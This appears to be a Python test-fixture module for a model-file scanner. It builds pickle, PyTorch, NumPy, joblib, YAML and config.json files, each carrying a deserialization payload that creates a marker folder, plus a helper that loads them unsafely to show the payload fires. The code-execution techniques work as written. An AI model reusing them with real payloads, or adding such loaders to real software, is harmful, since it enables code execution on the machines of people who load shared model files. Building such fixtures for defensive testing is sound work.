"""Files as an attacker would hand them over: each would make the folder `marker` if anything in it were executed."""

import contextlib
import io
import json
import os
import pickle
import zipfile
from pathlib import Path

import joblib
import numpy as np
import torch
import yaml

PLANTED = "import os; os.mkdir({marker!r})"


class Payload:
    """Unpickling it makes a folder."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return os.mkdir, (self.marker,)


def archive(**entries: bytes) -> bytes:
    """A zip file of uncompressed entries below `archive/`."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        for name, content in entries.items():
            file.writestr("archive/" + name.replace("__", "."), content)
    return buffer.getvalue()


def saved(content, **options) -> bytes:
    """What torch.save writes."""
    buffer = io.BytesIO()
    torch.save(content, buffer, **options)
    return buffer.getvalue()


def forms(marker: Path) -> dict[str, bytes]:
    """Content by the name that it is known under; all of them hold the payload."""
    payload = Payload(marker)
    pickled = pickle.dumps(payload, protocol=2)
    state = {"args": payload, "model": {"cls_token": torch.zeros(1, 1, 8)}}
    array, dump = io.BytesIO(), io.BytesIO()
    np.save(array, np.array([payload, 1], dtype=object))
    joblib.dump({"weights": payload}, dump)
    code = {
        "auto_map": {"AutoModel": "planted.Model"},
        "trust_remote_code": True,
        "hidden_size": 8,
        "architectures": ["planted.Model"],
        "_name_or_path": PLANTED.format(marker=str(marker)),
    }
    return {
        "zip.pt": saved(state),
        "legacy.pth": saved(state, _use_new_zipfile_serialization=False),
        "torchscript.pt": archive(constants__pkl=pickled, data__pkl=pickled, version=b"3\n"),
        "program.pt2": archive(
            archive_format=b"pt2", data__pkl=pickled, version=b"0\n", byteorder=b"little"
        ),
        "array.npy": array.getvalue(),
        "plain.pkl": pickled,
        "recipe.yaml": f"model: !!python/object/apply:os.mkdir ['{marker}']\n".encode(),
        "dump.joblib": dump.getvalue(),
        "config.json": json.dumps(code).encode(),
    }


def detonate(name: str, content: bytes) -> None:
    """Load a form as a careless program would, to show that its payload is alive."""
    if name == "recipe.yaml":
        yaml.UnsafeLoader(content).get_single_data()
    elif name == "config.json":
        exec(json.loads(content)["_name_or_path"])
    elif content[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(content)) as file:
            content = file.read(next(n for n in file.namelist() if n.endswith("/data.pkl")))
        _careless(io.BytesIO(content))
    elif name == "legacy.pth":
        stream = io.BytesIO(content)
        for _ in range(4):  # magic number, protocol, system, content
            _careless(stream)
    elif name == "array.npy":
        pickle.loads(content[content.index(b"\n") + 1 :])
    else:  # joblib writes plain pickles, too
        pickle.loads(content)


class _CarelessUnpickler(pickle.Unpickler):
    def persistent_load(self, _):
        return torch.UntypedStorage(0)


def _careless(stream) -> None:
    with contextlib.suppress(RuntimeError, AttributeError):  # the tensors are not there
        _CarelessUnpickler(stream).load()
